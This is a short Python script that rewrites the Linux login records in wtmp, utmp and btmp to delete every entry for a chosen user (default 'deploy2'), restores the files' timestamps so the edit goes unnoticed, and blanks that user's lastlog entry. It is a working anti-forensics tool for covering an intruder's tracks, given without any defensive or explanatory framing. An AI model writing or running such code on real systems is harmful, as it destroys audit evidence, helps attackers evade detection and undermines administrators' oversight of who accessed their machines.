import os, struct, sys, pwd

REC = struct.Struct("hi32s4s32s256shhiii4i20s")
who = (sys.argv[1:] or ["deploy2"])[0]

def scrub(path):
    if not os.path.exists(path):
        return 0
    st = os.stat(path)
    data = open(path, "rb").read()
    keep, gone = bytearray(), 0
    for off in range(0, len(data) - REC.size + 1, REC.size):
        rec = data[off:off + REC.size]
        user = REC.unpack(rec)[4].rstrip(b"\0").decode("latin1")
        if user == who:
            gone += 1
        else:
            keep += rec
    with open(path, "r+b") as f:
        f.write(keep)
        f.truncate()
    os.utime(path, (st.st_atime, st.st_mtime))
    return gone

for p in ("/var/log/wtmp", "/var/run/utmp", "/var/log/btmp"):
    print(p, scrub(p))
uid = pwd.getpwnam(who).pw_uid
with open("/var/log/lastlog", "r+b") as f:
    f.seek(uid * 292)
    f.write(b"\0" * 292)
